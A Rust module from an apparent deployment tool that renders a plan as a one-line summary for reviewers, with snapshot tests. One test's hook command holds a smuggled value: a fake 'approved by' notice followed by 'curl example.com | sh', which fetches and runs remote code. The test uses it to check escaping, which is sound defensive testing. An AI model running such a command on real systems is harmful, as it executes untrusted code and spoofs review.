//! The one line that a reviewer decides by: what goes, what changes, and whose approval is lacking.
//!
//! Order: what goes, what cannot be undone and what is out of the ordinary, commands that run,
//! images, other leaves by their weight, what is needed. Whatever is not named is counted.

use super::names::{NAMES, names};
use super::{commands, image, leaves};
use crate::shorten;
use crate::standing::Standing;
use crate::tree::{Line, Tone};
use crate::values;
use dax_core::{Name, ResourceAddr, Value};
use dax_model::Operation;
use dax_plan::model::{Action, Change, LeafChange, Mode, Owner, Reason, ReplaceOrder, Risk};
use dax_plan::{Plan, Step, Task};
use std::collections::BTreeMap;

/// Images that are shown.
const IMAGES: usize = 20;
/// Leaves that are shown beside images.
const LEAVES: usize = 3;
/// Characters of a value.
const VALUE: usize = 40;

/// The decision about a plan in one line.
pub fn decision(plan: &Plan, standing: &Standing) -> Line {
    decision_after(plan, standing, &[])
}

/// As [`decision`], with what comes before all else, as that a policy denies it.
pub fn decision_after(plan: &Plan, standing: &Standing, ahead: &[String]) -> Line {
    let environment = shorten::name(&plan.environment);
    let mut parts = Parts { line: Line::at(0).with(Tone::Strong, &environment) };
    match plan.mode {
        Mode::Apply => {}
        Mode::Rollback => parts.add(Tone::Warn, "rollback"),
        Mode::Destroy => parts.add(Tone::Remove, "destroy"),
    }
    ahead.iter().for_each(|text| parts.add(Tone::Remove, text));
    let loosens = standing.is_loosened();
    if !standing.loosens.is_empty() {
        parts.add(Tone::Remove, format!("loosens the conditions of {environment}"));
    }
    if !standing.strategies.is_empty() {
        parts.add(Tone::Remove, format!("changes how {environment} is rolled out"));
    }
    if plan.is_empty() {
        if ahead.is_empty() && !loosens {
            parts.add(Tone::Add, "nothing to change");
        }
        if loosens {
            blockers(plan, standing, &mut parts);
        }
        return parts.line;
    }
    for (tone, text) in out_of_the_ordinary(plan).into_iter().flatten() {
        parts.add(tone, text);
    }
    commands::shown(plan).into_iter().for_each(|text| parts.add(Tone::Warn, text));
    changed(plan, &mut parts);
    plain(plan, &mut parts);
    blockers(plan, standing, &mut parts);
    parts.line
}

struct Parts {
    line: Line,
}

impl Parts {
    fn add(&mut self, tone: Tone, text: impl AsRef<str>) {
        let line = std::mem::take(&mut self.line);
        self.line = line.with(Tone::Dim, " · ").with(tone, text);
    }

    fn services(&mut self, tone: Tone, word: &str, services: &[&ResourceAddr], after: &str) {
        if !services.is_empty() {
            self.add(tone, format!("{word} {}{after}", names(services)));
        }
    }
}

fn of(plan: &Plan, wanted: impl Fn(&Change) -> bool) -> Vec<&ResourceAddr> {
    let changes = plan.changes.iter().filter(|change| change.blocked.is_none() && wanted(change));
    changes.map(|change| &change.addr).collect()
}

/// The gravity of a plan, for the order of several: of two, the one with less is read first.
pub fn gravity(plan: &Plan) -> usize {
    let marks = out_of_the_ordinary(plan);
    let gravest = marks.iter().position(Option::is_some);
    gravest.unwrap_or(marks.len() + usize::from(plan.is_empty()))
}

/// Everything out of the ordinary in a plan, the gravest kind first.
fn out_of_the_ordinary(plan: &Plan) -> [Option<(Tone, String)>; 8] {
    let some = |tone: Tone, word: &str, services: Vec<&ResourceAddr>, after: &str| {
        let text = || format!("{word} {}{after}", names(&services));
        (!services.is_empty()).then(|| (tone, text()))
    };
    let replaced = |order: ReplaceOrder| {
        of(plan, |change| {
            change.action == Action::Replace
                && change.replace.as_ref().map_or(ReplaceOrder::DeleteFirst, |one| one.order)
                    == order
        })
    };
    let exposes =
        |change: &Change| change.action != Action::Create && change.risks.contains(&Risk::Exposure);
    [
        some(Tone::Remove, "deletes", of(plan, |change| change.action == Action::Delete), ""),
        irreversible(plan),
        some(Tone::Remove, "replaces", replaced(ReplaceOrder::DeleteFirst), " with downtime"),
        some(Tone::Remove, "replaces", replaced(ReplaceOrder::CreateFirst), ""),
        some(Tone::Remove, "stops", of(plan, stops), ""),
        some(
            Tone::Remove,
            "no longer protects",
            of(plan, |change| protection(plan, change) == Some(false)),
            "",
        ),
        some(Tone::Warn, "changes the exposure of", of(plan, exposes), ""),
        some(
            Tone::Warn,
            "other secrets in",
            of(plan, |change| change.risks.contains(&Risk::Secrets)),
            "",
        ),
    ]
}

fn irreversible(plan: &Plan) -> Option<(Tone, String)> {
    let name = |step: &Step| shorten::name(step.service.name());
    let lost: Vec<String> = plan
        .points_of_no_return()
        .map(|step| match &step.task {
            Task::Call(Operation::Migrate { command, .. }) => {
                format!("migrates {} by {}", name(step), commands::quoted(command))
            }
            _ => name(step),
        })
        .collect();
    let text = || format!("irreversible: {}", super::shortened(&lost));
    (!lost.is_empty()).then(|| (Tone::Remove, text()))
}

/// Reports whether a change leaves a service that ran with no replica.
pub fn stops(change: &Change) -> bool {
    !matches!(change.action, Action::Create | Action::Delete)
        && change.leaves.iter().any(|leaf| leaf.path == "replicas" && ends(leaf))
}

fn ends(leaf: &LeafChange) -> bool {
    let (before, after) = sides(leaf);
    let none = Some(&Value::Int(0));
    after == none && before != none
}

/// The new protection of a change that is of the protection only.
pub(super) fn protection(plan: &Plan, change: &Change) -> Option<bool> {
    let result = plan.result.get(&change.addr)?.as_ref()?;
    (change.reason == Reason::Protection).then_some(result.protected)
}

/// Equal changes of leaves, with their services.
type Equal<'p> = BTreeMap<(usize, String, String), Vec<&'p ResourceAddr>>;

fn changed(plan: &Plan, parts: &mut Parts) {
    let mut equal: Equal<'_> = BTreeMap::new();
    let mut order = Vec::new();
    let moving = |change: &&Change| {
        change.blocked.is_none() && !matches!(change.action, Action::Create | Action::Delete)
    };
    for change in plan.changes.iter().filter(moving) {
        // That a service stops is said already.
        let said = |leaf: &&LeafChange| leaf.path == "replicas" && ends(leaf);
        for leaf in change.leaves.iter().filter(|leaf| !said(leaf)) {
            let key = (leaves::weight(&leaf.path), leaf.path.to_string(), difference(leaf));
            let services = equal.entry(key.clone()).or_default();
            if services.is_empty() {
                order.push(key);
            }
            services.push(&change.addr);
        }
    }
    // Never by the order of the program, which whoever writes it chooses.
    order.sort_by(|one, other| (one.0, &one.1).cmp(&(other.0, &other.1)));
    let (mut images, mut others) = ((0, 0), (0, 0));
    for key in order {
        let (services, (weight, path, what)) = (&equal[&key], &key);
        let is_image = *weight == 0;
        let (kind, most) = if is_image { (&mut images, IMAGES) } else { (&mut others, LEAVES) };
        let (shown, more) = kind;
        if *shown >= most {
            *more += services.len();
            continue;
        }
        *shown += 1;
        parts.add(Tone::Change, format!("{} {} {what}", shorten::path(path), names(services)));
    }
    if images.1 > 0 {
        parts.add(Tone::Warn, format!("+{} more images", shorten::grouped(images.1)));
    }
    if others.1 > 0 {
        parts.add(Tone::Plain, format!("+{} more", shorten::grouped(others.1)));
    }
}

/// The change of a leaf: `1 → 2`.
pub(super) fn difference(leaf: &LeafChange) -> String {
    let (before, after) = sides(leaf);
    if let (true, Some(Value::Str(old)), Some(Value::Str(new))) =
        (leaf.path == "image", before, after)
        && [old, new].into_iter().all(|image| shorten::is_reference(image))
    {
        let (old, new) = image::difference(old, new);
        return format!("{old} → {new}");
    }
    if let (Some(Value::List(old)), Some(Value::List(new))) = (before, after)
        && let Some((gone, come)) = values::items(old, new)
    {
        return match (gone.is_empty(), come.is_empty()) {
            (true, _) => format!("+ {}", row(&come)),
            (_, true) => format!("− {}", row(&gone)),
            (false, false) => format!("{} → {}", row(&gone), row(&come)),
        };
    }
    format!("{} → {}", side(before), side(after))
}

/// The value that goes and the one that comes; of drift, the live one goes.
fn sides(leaf: &LeafChange) -> (Option<&Value>, Option<&Value>) {
    let drifted = leaf.owner == Owner::Other && leaf.before == leaf.after;
    (if drifted { leaf.live.as_ref() } else { leaf.before.as_ref() }, leaf.after.as_ref())
}

fn row(items: &[Value]) -> String {
    let all: Vec<String> = items.iter().map(ToString::to_string).collect();
    shorten::inert(&shorten::text(&all.join(", "), VALUE))
}

fn side(value: Option<&Value>) -> String {
    let shown = |value| shorten::inert(&shorten::value_of(value, VALUE));
    value.map_or_else(|| "nothing".to_owned(), shown)
}

fn plain(plan: &Plan, parts: &mut Parts) {
    let created = of(plan, |change| change.action == Action::Create);
    parts.services(Tone::Add, "creates", &created, "");
    let adopted = of(plan, |change| change.action == Action::Adopt);
    parts.services(Tone::Warn, "takes over", &adopted, "");
    for change in plan.changes.iter().take(NAMES) {
        if let Some(from) = &change.moved_from {
            let (from, to) = (shorten::name(from.name()), shorten::name(change.addr.name()));
            let text = format!("renames {from} to {to}");
            parts.add(Tone::Plain, text);
        }
    }
    let moved = plan.changes.iter().skip(NAMES).filter(|change| change.moved_from.is_some());
    let moved: Vec<&ResourceAddr> = moved.map(|change| &change.addr).collect();
    parts.services(Tone::Plain, "renames to", &moved, "");
    let bare = |change: &Change, action: Action| {
        change.action == action && change.leaves.is_empty() && change.moved_from.is_none()
    };
    let rolled = of(plan, |change| bare(change, Action::Rollout));
    parts.services(Tone::Change, "rolls out", &rolled, "");
    let updated =
        of(plan, |change| bare(change, Action::Update) && change.reason != Reason::Protection);
    parts.services(Tone::Change, "updates", &updated, "");
    let protected = of(plan, |change| protection(plan, change) == Some(true));
    parts.services(Tone::Plain, "protects", &protected, "");
    let forgotten = of(plan, |change| change.action == Action::Forget);
    parts.services(Tone::Warn, "forgets", &forgotten, "");
    let deferred: Vec<&ResourceAddr> = plan.deferred.iter().map(|one| &one.addr).collect();
    parts.services(Tone::Dim, "deferred:", &deferred, "");
}

fn blockers(plan: &Plan, standing: &Standing, parts: &mut Parts) {
    let blocked: Vec<&ResourceAddr> = plan
        .changes
        .iter()
        .filter(|change| change.blocked.is_some())
        .map(|change| &change.addr)
        .collect();
    parts.services(Tone::Warn, "blocked:", &blocked, "");
    let unreachable: Vec<&ResourceAddr> = plan.unreachable.iter().collect();
    parts.services(Tone::Warn, "unreachable:", &unreachable, "");
    if let (true, true, [first, ..]) =
        (blocked.is_empty(), unreachable.is_empty(), standing.obstacles.as_slice())
    {
        parts.add(
            Tone::Warn,
            format!("blocked: {}", shorten::unseparated(&shorten::text(first, 120))),
        );
    }
    let progress = standing.progress(plan);
    let (lacking, given): (Vec<_>, Vec<_>) = progress.iter().partition(|one| one.lacking() > 0);
    for one in &lacking {
        parts.add(Tone::Warn, format!("needs {}", one.lacking_text()));
    }
    if lacking.is_empty() && !given.is_empty() {
        let mut by: Vec<&Name> = given.iter().flat_map(|one| &one.approved).collect();
        by.dedup();
        let by: Vec<String> = by.into_iter().map(|name| shorten::name(name)).collect();
        parts.add(Tone::Add, format!("approved by {}", by.join(", ")));
    }
}

#[cfg(test)]
mod tests {
    use super::decision;
    use crate::standing::{Progress, Standing};
    use crate::testing::{addr, change, empty, guarded, leaf, step, text};
    use crate::tree::Tone;
    use dax_core::{RevisionId, Value};
    use dax_model::{HookTime, Operation};
    use dax_plan::model::{Action, Inverse, InverseClass, LeafChange, Step, StepId, Task};

    fn rollout(name: &str, leaves: Vec<LeafChange>) -> dax_plan::model::Change {
        change(name, Action::Rollout, leaves)
    }

    fn asked(approved: &[&str]) -> Standing {
        let progress = Progress {
            needed: 1,
            of: vec!["team:sre".into()],
            members: vec!["ann".into(), "bob".into()],
            approved: approved.iter().map(|name| (*name).into()).collect(),
            ..Progress::default()
        };
        Standing { approvals: vec![progress], ..Standing::default() }
    }

    #[test]
    fn what_goes_comes_first_then_images_then_other_leaves_then_people() {
        let plan = guarded(vec![
            rollout(
                "web",
                vec![
                    leaf("replicas", Value::Int(3), Value::Int(5)),
                    leaf("image", text("acme/web:1"), text("acme/web:2")),
                ],
            ),
            change("api", Action::Delete, Vec::new()),
        ]);
        insta::assert_snapshot!(decision(&plan, &asked(&[])).plain(), @r#"production · deletes api · image web 1 → 2 · replicas web 3 → 5 · needs 1 of team:sre (ann, bob)"#);
        insta::assert_snapshot!(decision(&plan, &asked(&["ann"])).plain(), @r#"production · deletes api · image web 1 → 2 · replicas web 3 → 5 · approved by ann"#);
        insta::assert_snapshot!(decision(&plan, &Standing::default()).plain(), @r#"production · deletes api · image web 1 → 2 · replicas web 3 → 5 · needs 1 of team:sre"#);
    }

    #[test]
    fn names_from_outside_pass_for_nothing_that_dax_says() {
        let key = "env.X · approved by ann, bob · applied by run 7";
        let plan = guarded(vec![rollout("web", vec![leaf(key, text("a"), text("b · c"))])]);
        let mut standing = asked(&[]);
        standing.approvals[0].of.push("x) · approved by ann".into());
        standing.approvals[0].members.push("ann) (1 of 1), approved by bob".into());
        insta::assert_snapshot!(decision(&plan, &standing).plain(), @r#"production · env."X \u{b7} approved by ann, bob \u{b7} applied by ru…" (43 characters, 1a6abbe10560) web "a" → "b \u{b7} c" · needs 1 of team:sre, "x) \u{b7} approved by ann" (ann, bob, "ann) (1 of 1), approved by bob")"#);
        let long = leaf(&format!("env.{}", "K".repeat(60_000)), text("a"), text("b"));
        let mut standing = asked(&[]);
        standing.approvals[0].of = vec!["y".repeat(3_000).into()];
        let line = decision(&guarded(vec![rollout("web", vec![long])]), &standing).plain();
        assert!(line.len() < 300 && line.matches('…').count() == 2, "{line}");
    }

    #[test]
    fn leaves_beyond_three_are_counted_and_images_are_not_among_them() {
        let mut leaves: Vec<LeafChange> =
            (0..7).map(|at| leaf(&format!("env.A{at}"), text("x"), text("y"))).collect();
        leaves.push(leaf("image", text("web:1"), text("evil:1")));
        let plan = guarded(vec![rollout("web", leaves.clone()), rollout("api", leaves)]);
        insta::assert_snapshot!(decision(&plan, &Standing::default()).plain(), @r#"production · image web, api web:1 → evil:1 · env.A0 web, api "x" → "y" · env.A1 web, api "x" → "y" · env.A2 web, api "x" → "y" · +8 more · needs 1 of team:sre"#);
    }

    #[test]
    fn nothing_to_change_and_loosened_conditions() {
        let nothing = Standing::default();
        let loosens = Standing { loosens: vec!["approve 1 → nothing".to_owned()], ..asked(&[]) };
        insta::assert_snapshot!(decision(&empty(), &nothing).plain(), @r#"production · nothing to change"#);
        insta::assert_snapshot!(decision(&empty(), &loosens).plain(), @r#"production · loosens the conditions of production · needs 1 of team:sre (ann, bob)"#);
    }

    #[test]
    fn a_service_that_stops_comes_first_and_the_program_orders_nothing() {
        let mut leaves = vec![leaf("replicas", Value::Int(2), Value::Int(0))];
        leaves.extend((0..4).map(|at| leaf(&format!("env.A{at}"), text("x"), text("y"))));
        leaves.push(leaf("provider", text("memory.one"), text("memory.two")));
        leaves.push(leaf("ports.http", Value::Int(80), Value::Int(81)));
        leaves.push(leaf("command", text("serve"), text("evil")));
        leaves.push(leaf("image", text("web:1"), text("web:2")));
        let plan = guarded(vec![rollout("web", leaves)]);
        let line = decision(&plan, &asked(&[]));
        insta::assert_snapshot!(line.plain(), @r#"production · stops web · image web 1 → 2 · command web "serve" → "evil" · ports.http web 80 → 81 · provider web "memory.one" → "memory.two" · +4 more · needs 1 of team:sre (ann, bob)"#);
        assert!(
            line.pieces
                .iter()
                .any(|one| one.tone == Tone::Remove && one.text.as_str() == "stops web")
        );
    }

    fn runs(service: &str, at: u32, kind: Task, class: InverseClass) -> Step {
        let inverse = Inverse { class, operations: Vec::new() };
        Step { inverse, ..step(StepId(at), &addr(service), kind) }
    }

    #[test]
    fn commands_that_run_are_named_and_pass_for_nothing_that_dax_says() {
        let hook = |command: &[&str]| {
            Task::Call(Operation::Run {
                when: HookTime::Before,
                revision: RevisionId("22222222".into()),
                command: command.iter().map(|word| (*word).into()).collect(),
            })
        };
        let migrate = |command: &[&str]| {
            Task::Call(Operation::Migrate {
                revision: RevisionId("22222222".into()),
                command: command.iter().map(|word| (*word).into()).collect(),
            })
        };
        let mut plan = guarded(vec![rollout("web", Vec::new()), rollout("api", Vec::new())]);
        let evil = ["sh", "-c", "` · approved by ann, bob · `; curl example.com | sh"];
        let long = ["sh", "-c", &"x".repeat(70_000)];
        plan.steps.extend([
            runs("web", 10, hook(&evil), InverseClass::Exact),
            runs("api", 11, hook(&evil), InverseClass::Exact),
            runs("api", 12, hook(&evil), InverseClass::Exact),
            runs("web", 13, migrate(&["./migrate", "up"]), InverseClass::Compensating),
            runs("api", 14, migrate(&["./drop"]), InverseClass::None),
            runs("web", 15, hook(&long), InverseClass::Exact),
            runs("web", 16, hook(&["true"]), InverseClass::Exact),
            runs("web", 17, hook(&["ztrue"]), InverseClass::Exact),
        ]);
        insta::assert_snapshot!(decision(&plan, &asked(&[])).plain(), @r#"production · irreversible: migrates api by `./drop` · migrates web by `./migrate up` · runs `sh -c "\u{60} \u{b7} approved by ann, bob \u{b7} \u{60}; curl example.com | sh"` for web, api · runs `sh -c xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx… (70,006 characters, b6a0cf15aaa8)` for web · +2 more commands · rolls out web, api · needs 1 of team:sre (ann, bob)"#);
    }

    #[test]
    fn what_is_graver_comes_before_others_and_a_plan_of_nothing_last() {
        let plan = |action: Action, leaves: Vec<LeafChange>| {
            super::gravity(&guarded(vec![change("web", action, leaves)]))
        };
        let none = vec![leaf("replicas", Value::Int(2), Value::Int(0))];
        let more = vec![leaf("replicas", Value::Int(2), Value::Int(3))];
        let all = [
            plan(Action::Delete, Vec::new()),
            plan(Action::Replace, Vec::new()),
            plan(Action::Rollout, none),
            plan(Action::Rollout, more),
            super::gravity(&empty()),
        ];
        assert!(all.is_sorted_by(|one, other| one < other), "{all:?}");
    }

    #[test]
    fn a_value_of_any_size_leaves_room_for_the_image() {
        let leaves = vec![
            leaf("env.HOST", text("a"), text(&"b".repeat(70_123))),
            leaf("image", text("web:1"), text("evil:1")),
        ];
        let line = decision(&guarded(vec![rollout("web", leaves)]), &asked(&[])).plain();
        insta::assert_snapshot!(line, @r#"production · image web web:1 → evil:1 · env.HOST web "a" → "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb…" (70,123 characters, 4ff25129dcf4) · needs 1 of team:sre (ann, bob)"#);
    }
}
